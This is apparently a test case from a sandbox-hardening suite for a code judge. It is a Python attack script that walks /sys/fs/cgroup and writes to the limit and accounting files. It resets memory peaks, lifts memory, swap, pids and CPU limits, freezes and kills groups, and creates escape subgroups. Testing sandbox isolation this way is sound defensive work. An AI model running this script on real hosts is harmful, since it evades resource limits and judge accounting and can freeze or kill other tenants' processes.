# attack: hide a run's memory from the judge or lift its limits through the accounting files the run sees: reset the
#   peak (v1 memory.max_usage_in_bytes, v2 memory.peak), raise memory and pids limits, enable controllers, in every
#   group visible under /sys/fs/cgroup (its own, its parents', another slot's)
# expect: AC
# untouched: host-processes
import os

KNOBS = {"memory.max_usage_in_bytes": "0", "memory.peak": "reset", "memory.limit_in_bytes": "-1", "memory.max": "max",
         "memory.swap.max": "max", "memory.oom.group": "0", "memory.memsw.limit_in_bytes": "-1", "pids.max": "max",
         "cpu.max": "max", "cgroup.subtree_control": "+memory +pids", "cgroup.freeze": "1", "cgroup.kill": "1"}
for root, dirs, files in os.walk("/sys/fs/cgroup"):
    if root.count("/") > 8:
        dirs[:] = []
    for name in files:
        if name in KNOBS:
            try:
                with open(os.path.join(root, name), "w") as f:
                    f.write(KNOBS[name])
                print("WROTE", os.path.join(root, name))
            except OSError:
                pass
    for name in dirs[:3]:  # a group of one's own, made to move into with other limits
        try:
            os.mkdir(os.path.join(root, name, "jbx-escape"))
            print("WROTE a new group under", os.path.join(root, name))
        except OSError:
            pass
print("blocked")
